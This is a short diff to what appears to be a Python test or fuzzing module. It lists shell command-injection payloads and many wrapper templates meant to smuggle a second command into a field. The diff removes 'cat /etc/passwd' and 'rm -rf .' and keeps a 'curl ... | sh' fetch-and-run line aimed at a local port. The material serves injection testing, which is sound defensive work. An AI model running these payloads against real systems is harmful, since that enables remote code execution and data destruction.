@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from itertools import product
 
-_PAYLOADS = ["id", "touch PWNED", "cat /etc/passwd", "rm -rf .", "curl http://127.0.0.1:9/x | sh"]
+_PAYLOADS = ["id", "touch PWNED", "curl http://127.0.0.1:9/x | sh"]
 _WRAPPERS = [
     "$({})", "`{}`", "; {}", "&& {}", "|| {}", "| {}", "& {}", "\n{}", "\r\n{}\r\n", "'; {} #", '"; {} #', "$'{}'",
     '"$({})"', "'$({})'", "<({})", ">({})", "{{{}}}", "%{}%", "!{}", "#{}", "\\\n{}", "\x1b[2J{}", "--; {}", "${{IFS}}{}",
